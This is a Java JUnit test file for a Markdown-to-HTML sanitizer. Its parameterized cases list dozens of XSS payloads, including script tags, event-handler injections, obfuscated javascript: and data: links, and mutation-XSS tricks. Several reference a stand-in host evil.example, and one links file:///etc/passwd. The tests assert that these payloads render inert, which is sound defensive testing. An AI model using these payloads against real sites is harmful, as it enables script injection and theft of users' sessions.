// SPDX-License-Identifier: Apache-2.0
package touchstone.guideline;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {
  private static final Set<String> ELEMENTS =
      Set.of(
          "h2",
          "h3",
          "h4",
          "h5",
          "h6",
          "p",
          "a",
          "em",
          "strong",
          "code",
          "pre",
          "blockquote",
          "ul",
          "ol",
          "li",
          "hr",
          "br",
          "img",
          "table",
          "thead",
          "tbody",
          "tr",
          "th",
          "td");

  private static final Map<String, Set<String>> ATTRIBUTES =
      Map.of(
          "a", Set.of("href", "title", "rel"),
          "img", Set.of("src", "alt", "title"),
          "ol", Set.of("start"),
          "th", Set.of("align"),
          "td", Set.of("align"));

  private static final Pattern TAG =
      Pattern.compile("<(/?)([a-z][a-z0-9]*)((?: [a-z]+=\"[^\"<>]*\")*)( /)?>");
  private static final Pattern ATTRIBUTE = Pattern.compile(" ([a-z]+)=\"([^\"<>]*)\"");
  private static final Pattern ADDRESS =
      Pattern.compile("(?i)(https?:|mailto:|[^:]*$|[^:]*[/?#]).*");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "text <svg/onload=alert(1)> text",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<style>@import 'http://evil.example'</style>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?php <script>alert(1)</script> ?>",
        "<form action=/sign-out><button>x</button></form>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](java&NewLine;script:alert(1))",
        "[x](&#1;javascript:alert(1))",
        "[x](<\u0001javascript:alert(1)>)",
        "[x](<\u00a0javascript:alert(1)>)",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://touchstone.example/1)",
        "[x](view-source:https://touchstone.example)",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "[x](https://example.org \"\\\" onmouseover=alert(1) x=\\\"\")",
        "[x](https://example.org/\"onmouseover=alert(1))",
        "[x](https://example.org/'><script>alert(1)</script>)",
        "![x](https://evil.example/pixel.png)",
        "![x](//evil.example/pixel.png)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "![x](/media/../sign-out)",
        "![x](/media/%2e%2e/sign-out)",
        "![x](/media/..\\\\sign-out)",
        "![\"onerror=alert(1) x=\"](/media/1)",
        "![<img src=x onerror=alert(1)>](/media/1)",
        "![x](/media/1 '\" onerror=\"alert(1)')",
        "![[x](javascript:alert(1))](https://evil.example)",
        "[![x](javascript:alert(1))](javascript:alert(1))",
        "```\"><script>alert(1)</script>\nx\n```",
        "```html onload=alert(1)\n<script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "# <img src=x onerror=alert(1)>",
        "# \" onclick=alert(1) x=\"",
        "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |",
        "<div\nonclick=alert(1)>\n\nx\n\n</div>",
        "> <script>\n> alert(1)\n> </script>"
      })
  void payloadsStayInert(String markdown) {
    assertInert(Markdown.html(markdown));
    assertInert(Markdown.html("Before *" + markdown + "* after"));
    assertInert(Markdown.html("- item\n\n  " + markdown.replace("\n", "\n  ")));
  }

  @Test
  void theCheckItselfSeesWhatIsNotInert() {
    for (String bad :
        List.of(
            "<script>",
            "<p onclick=\"x\">",
            "<img src=\"x\" onerror=\"x\" />",
            "<a href=\"javascript:x\" rel=\"noopener noreferrer\">",
            "<p >x",
            "<img src=\"https://evil.example/\" alt=\"\" />")) {
      Assertions.assertThrows(AssertionError.class, () -> assertInert(bad), bad);
    }
  }

  @Test
  void headingsStepDownAndCarryTheirWordsAsId() {
    assertEquals(
        "<h2 id=\"section-ties-ends\">Ties &amp; <em>ends</em></h2>\n"
            + "<h3 id=\"section-ties-ends-2\">Ties, ends!</h3>\n"
            + "<h6 id=\"section-x\"><code>x</code></h6>\n"
            + "<h6 id=\"section-untitled\">???</h6>\n",
        Markdown.html("# Ties & *ends*\n## Ties, ends!\n##### `x`\n###### ???"));
  }

  @Test
  void headingsInAnyScriptHaveAnId() {
    assertEquals(
        "<h2 id=\"section-\u60c5\u611f-\u00e9t\u00e9\">\u60c5\u611f \u00c9t\u00e9</h2>\n",
        Markdown.html("# \u60c5\u611f \u00c9t\u00e9"));
  }

  @Test
  void linksToHeadingsReachThem() {
    String html = Markdown.html("[see](#ties) [or](#section-ties)\n\n# Ties");
    assertEquals(2, html.split("href=\"#section-ties\"", -1).length - 1);
    assertTrue(html.contains("id=\"section-ties\""));
  }

  @Test
  void allowedLinksStay() {
    for (String url :
        List.of(
            "https://example.org/a?b=c#d",
            "HTTP://example.org",
            "mailto:ada@example.org",
            "/projects/x",
            "page/../x",
            "?q=a:b",
            "a/b:c")) {
      assertEquals(
          "<p><a href=\"" + url + "\" rel=\"noopener noreferrer\">x</a></p>\n",
          Markdown.html("[x](" + url + ")"));
    }
  }

  @Test
  void angleBracketsAreLinksOrThemselves() {
    assertEquals(
        "<p><a href=\"https://example.org/a?b\" rel=\"noopener noreferrer\">https://example.org/a?b</a>"
            + " <a href=\"mailto:ada@example.org\" rel=\"noopener noreferrer\">ada@example.org</a>"
            + " a&lt;b &lt;b&gt;<em>c</em>&lt;/b&gt;</p>\n",
        Markdown.html("<https://example.org/a?b> <ada@example.org> a<b <b>*c*</b>"));
    assertEquals("<p>javascript:x</p>\n", Markdown.html("<javascript:x>"));
  }

  @Test
  void aForbiddenLinkLeavesItsWords() {
    assertEquals("<p>a <em>b</em> c</p>\n", Markdown.html("a [*b*](javascript:x) c"));
  }

  @Test
  void onlyOwnMediaAreShown() {
    assertEquals(
        "<p><img src=\"/media/0198-a/x.png\" alt=\"A cat\" /></p>\n",
        Markdown.html("![A *cat*](/media/0198-a/x.png)"));
    assertEquals("<p>A cat!</p>\n", Markdown.html("![A *cat*](https://example.org/x.png)!"));
    assertEquals("<p>A cat</p>\n", Markdown.html("![A cat](x.png)"));
  }

  @Test
  void tablesAndListsAreDrawn() {
    String html = Markdown.html("| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. x\n");
    assertInert(html);
    assertTrue(html.contains("<table>") && html.contains("<td align=\"right\">2</td>"));
    assertTrue(html.contains("<ol start=\"3\">"));
  }

  @Test
  void nothingGivesNothing() {
    assertEquals("", Markdown.html(""));
  }

  @Test
  void deepAndLongTextsEndInTime() {
    for (String part :
        List.of(">", "> ", "- ", "*a ", "**a", "[", "![", "[a](", "`", "<", "<a ", "<!-- >", "|")) {
      String html =
          Assertions.assertTimeoutPreemptively(
              Duration.ofSeconds(10), () -> Markdown.html(part.repeat(20_000)), part);
      assertInert(html);
    }
    assertTrue(Markdown.html("a".repeat(Markdown.MOST) + "<").startsWith("<pre>a"));
    assertTrue(Markdown.html("a".repeat(Markdown.MOST)).startsWith("<p>a"));
    assertTrue(Markdown.html(">".repeat(101) + "<b>").startsWith("<pre>&gt;"));
    assertFalse(Markdown.html(">".repeat(90) + "a").startsWith("<pre>"));
  }

  /** No tag, attribute or address outside the lists, and no angle bracket outside a tag. */
  private static void assertInert(String html) {
    Matcher tag = TAG.matcher(html);
    int end = 0;
    while (tag.find()) {
      assertPlain(html.substring(end, tag.start()));
      end = tag.end();
      String element = tag.group(2);
      assertTrue(ELEMENTS.contains(element), html);
      Matcher attribute = ATTRIBUTE.matcher(tag.group(3));
      while (attribute.find()) {
        String name = attribute.group(1);
        boolean heading = element.matches("h[2-6]") && name.equals("id");
        assertTrue(heading || ATTRIBUTES.getOrDefault(element, Set.of()).contains(name), html);
        if (name.equals("href")) {
          assertTrue(ADDRESS.matcher(attribute.group(2)).matches(), html);
          assertFalse(attribute.group(2).matches("(?s).*[\\x00- \\x7f-\\xa0].*"), html);
        }
        if (name.equals("src")) {
          assertTrue(attribute.group(2).matches("/media/[A-Za-z0-9._/-]+"), html);
          assertFalse(attribute.group(2).contains(".."), html);
        }
      }
      if (element.equals("a") && tag.group(1).isEmpty()) {
        assertTrue(tag.group(3).contains("rel=\"noopener noreferrer\""), html);
      }
    }
    assertPlain(html.substring(end));
  }

  private static void assertPlain(String text) {
    assertFalse(text.contains("<") || text.contains(">"), text);
  }
}
